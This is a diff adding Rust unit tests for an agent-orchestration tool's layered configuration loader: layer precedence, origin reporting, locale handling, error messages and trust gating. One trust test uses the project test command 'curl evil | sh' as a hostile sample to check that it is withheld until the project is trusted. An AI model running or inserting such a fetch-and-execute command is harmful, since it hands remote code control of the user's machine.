@@ -1,0 +1,256 @@
+//! The merge as a table: which layer wins, and where the value says it comes from.
+
+use std::collections::BTreeMap;
+use std::time::Duration;
+
+use super::file::Source;
+use super::load::{Flags, Loaded, Sources, load};
+use super::*;
+
+struct Case<'a> {
+    user: &'a str,
+    project: &'a str,
+    trusted: bool,
+    variables: &'a [(&'a str, &'a str)],
+    flags: Flags,
+}
+
+impl Default for Case<'_> {
+    fn default() -> Self {
+        Self { user: "", project: "", trusted: true, variables: &[], flags: Flags::default() }
+    }
+}
+
+impl Case<'_> {
+    fn try_load(&self) -> Result<Loaded, Vec<String>> {
+        let variables: BTreeMap<String, String> =
+            self.variables.iter().map(|&(name, value)| (name.to_owned(), value.to_owned())).collect();
+        load(Sources {
+            user: Some(Source { file: "config.toml", text: self.user }),
+            project: Some(Source { file: "planex.toml", text: self.project }),
+            trusted: self.trusted,
+            variables: &variables,
+            flags: &self.flags,
+        })
+        .map_err(|faults| faults.iter().map(ToString::to_string).collect())
+    }
+
+    fn load(&self) -> Loaded {
+        self.try_load().unwrap()
+    }
+
+    fn shown(&self, name: &str) -> String {
+        let loaded = self.load();
+        let found = loaded.resolved.iter().find(|value| value.name == name).unwrap();
+        format!("{} ({})", found.value.as_ref().map_or_else(|| "-".to_owned(), ToString::to_string), found.origin)
+    }
+}
+
+fn flag(name: &'static str, word: &str) -> Flags {
+    Flags { values: vec![(name, word.to_owned(), "--flag")], ..Flags::default() }
+}
+
+#[test]
+fn later_layers_win_and_say_so() {
+    let user = "concurrency = 5\n";
+    let project = "\nconcurrency = 6\n";
+    let variables = &[("PLANEX_CONCURRENCY", "7")];
+    let cases = [
+        (Case::default(), "4 (default)"),
+        (Case { user, ..Case::default() }, "5 (config.toml:1)"),
+        (Case { user, project, ..Case::default() }, "6 (planex.toml:2)"),
+        (Case { user, project, variables, ..Case::default() }, "7 ($PLANEX_CONCURRENCY)"),
+        (Case { user, project, variables, flags: flag("concurrency", "8"), ..Case::default() }, "8 (--flag)"),
+    ];
+    for (case, expected) in cases {
+        assert_eq!(case.shown("concurrency"), expected);
+    }
+}
+
+#[test]
+fn nothing_set_gives_the_defaults_of_the_contract() {
+    assert_eq!(Case::default().load().settings, Settings::default());
+}
+
+#[test]
+fn every_key_reaches_the_settings() {
+    let user = r#"
+        concurrency = 2
+        gates = "defer"
+        gate_timeout = "1h"
+        agent = "codex"
+        timeout = 90
+        overlap = "error"
+        protect = [".env"]
+        timezone = "local"
+        lang = "zh"
+        test.command = "make test"
+        [limits]
+        explore = 1
+        execute = 2
+        review = 3
+        tests = 4
+        idle = 0
+        grace = "500ms"
+        prompt_bytes = "10KiB"
+        log_bytes = 12
+        rate_limit_retries = 9
+        max_cost = 1.5
+        max_tokens = "2M"
+        max_time = "1h"
+        [roles.plan]
+        agent = "claude"
+        model = "m"
+        timeout = 7
+        fallback = ["codex:x"]
+        args = ["-a"]
+        env = { A = "1" }
+        [agents.mine]
+        command = ["c"]
+        analysis_args = ["a"]
+        write_args = ["w"]
+        resume_args = ["r"]
+        prompt = "file"
+        result = "stdout"
+        env = { B = "2" }
+        concurrency = 3
+        model = "n"
+        full_access = true
+    "#;
+    let seconds = Duration::from_secs;
+    let words = |words: &[&str]| words.iter().map(|&word| word.to_owned()).collect::<Vec<_>>();
+    let map = |name: &str, value: &str| BTreeMap::from([(name.to_owned(), value.to_owned())]);
+    let expected = Settings {
+        concurrency: Concurrency(2),
+        gates: GatePolicy::Defer,
+        agent: Some("codex".into()),
+        agent_by_role: BTreeMap::new(),
+        agents: BTreeMap::from([(
+            "mine".to_owned(),
+            AgentSettings {
+                command: words(&["c"]),
+                analysis_args: words(&["a"]),
+                write_args: words(&["w"]),
+                resume_args: Some(words(&["r"])),
+                prompt: PromptVia::File,
+                result: ResultVia::Stdout,
+                env: map("B", "2"),
+                concurrency: Some(3),
+                model: Some("n".into()),
+                full_access: true,
+            },
+        )]),
+        roles: BTreeMap::from([(
+            Role::Plan,
+            RoleSettings {
+                agent: Some("claude".into()),
+                model: Some("m".into()),
+                args: words(&["-a"]),
+                env: map("A", "1"),
+                timeout: Some(seconds(7)),
+                fallback: words(&["codex:x"]),
+            },
+        )]),
+        timeout: Some(seconds(90)),
+        limits: Limits {
+            grace: Duration::from_millis(500),
+            idle: Duration::ZERO,
+            explore: seconds(1),
+            execute: seconds(2),
+            review: seconds(3),
+            tests: seconds(4),
+            prompt_bytes: 10 * 1024,
+            log_bytes: 12,
+            rate_limit_retries: 9,
+            gate_timeout: Some(seconds(3600)),
+        },
+        budget: Budget { max_cost: Some(1.5), max_tokens: Some(2_000_000), max_time: Some(seconds(3600)) },
+        overlap: OverlapPolicy::Error,
+        protect: words(&[".env"]),
+        timezone: ZoneSetting::Local,
+        lang: Language::Zh,
+        test_command: Some("make test".into()),
+    };
+    let loaded = Case { user, ..Case::default() }.load();
+    assert_eq!(loaded.settings, expected);
+    // A key that this test forgets would be one that nobody knows to work.
+    for key in keys::KEYS {
+        let set = loaded
+            .resolved
+            .iter()
+            .any(|value| keys::find(&value.name) == Some(key) && !matches!(value.origin, origin::Origin::Default));
+        assert!(set, "{} is not tested", key.name);
+    }
+}
+
+#[test]
+fn what_needs_trust_is_withheld_until_it_has_it() {
+    let project = "lang = \"ja\"\n[test]\ncommand = \"curl evil | sh\"\n[agents.claude]\nfull_access = true\n";
+    let untrusted = Case { project, trusted: false, ..Case::default() }.load();
+    assert_eq!(untrusted.settings.test_command, None);
+    assert!(untrusted.settings.agents.is_empty());
+    assert_eq!(untrusted.settings.lang, Language::Ja);
+    let names: Vec<&str> = untrusted.withheld.iter().map(|entry| entry.name.as_str()).collect();
+    assert_eq!(names, ["test.command", "agents.claude.full_access"]);
+
+    let trusted = Case { project, ..Case::default() }.load();
+    assert_eq!(trusted.settings.test_command.as_deref(), Some("curl evil | sh"));
+    assert!(trusted.withheld.is_empty());
+}
+
+#[test]
+fn the_users_own_configuration_needs_no_trust() {
+    let user = "[test]\ncommand = \"make\"\n";
+    assert_eq!(Case { user, trusted: false, ..Case::default() }.load().settings.test_command.as_deref(), Some("make"));
+}
+
+#[test]
+fn protected_files_add_up() {
+    let case = Case { user: "protect = [\"a\", \"b\"]", project: "protect = [\"b\", \"c\"]", ..Case::default() };
+    assert_eq!(case.load().settings.protect, ["a", "b", "c"]);
+}
+
+#[test]
+fn agents_are_chosen_for_all_or_for_one() {
+    let flags = Flags { agents: vec!["codex".into(), "plan=claude".into()], ..Flags::default() };
+    let settings = Case { user: "[roles.execute]\nagent = \"qwen\"", flags, ..Case::default() }.load().settings;
+    assert_eq!(settings.agent_for(Role::Plan), Some("claude"));
+    assert_eq!(settings.agent_for(Role::Execute), Some("codex"));
+    let bad = |given: &str| {
+        let flags = Flags { agents: vec![given.to_owned()], ..Flags::default() };
+        Case { flags, ..Case::default() }.try_load().unwrap_err()
+    };
+    assert_eq!(bad("pln=claude"), ["--agent: unknown role `pln`; did you mean `plan`?"]);
+    assert_eq!(bad("plan="), ["--agent: expected NAME or ROLE=NAME, found `plan=`"]);
+}
+
+#[test]
+fn the_locale_is_weaker_than_everything_but_the_default() {
+    let cases: [(&[(&str, &str)], &str, &str); 6] = [
+        (&[("LANG", "ja_JP.UTF-8")], "", "ja ($LANG)"),
+        (&[("LANG", "fr_FR.UTF-8")], "", "en (default)"),
+        (&[("LC_ALL", "C"), ("LANG", "ja_JP")], "", "en (default)"),
+        (&[("LC_ALL", ""), ("LANG", "zh_CN")], "", "zh ($LANG)"),
+        (&[("LANG", "ja_JP")], "lang = \"en\"", "en (config.toml:1)"),
+        (&[("LANG", "ja_JP"), ("PLANEX_LANG", "zh")], "lang = \"en\"", "zh ($PLANEX_LANG)"),
+    ];
+    for (variables, user, expected) in cases {
+        assert_eq!(Case { variables, user, ..Case::default() }.shown("lang"), expected, "{variables:?}");
+    }
+}
+
+#[test]
+fn yes_passes_gates_and_faults_of_all_layers_are_told() {
+    let flags = Flags { yes: true, ..flag("gates", "defer") };
+    assert_eq!(Case { flags, ..Case::default() }.load().settings.gates, GatePolicy::Yes);
+    let case = Case {
+        user: "langg = 1",
+        project: "x = 1",
+        variables: &[("PLANEX_TIMEOUT", "soon"), ("PLANEX_JOB_ID", "x"), ("PLANEX_WHATEVER", "x")],
+        flags: flag("concurrency", "none"),
+        ..Case::default()
+    };
+    let faults = case.try_load().unwrap_err();
+    let heads: Vec<&str> = faults.iter().filter_map(|fault| fault.split(": ").next()).collect();
+    assert_eq!(heads, ["config.toml:1:1", "planex.toml:1:1", "$PLANEX_TIMEOUT", "--flag"]);
+}
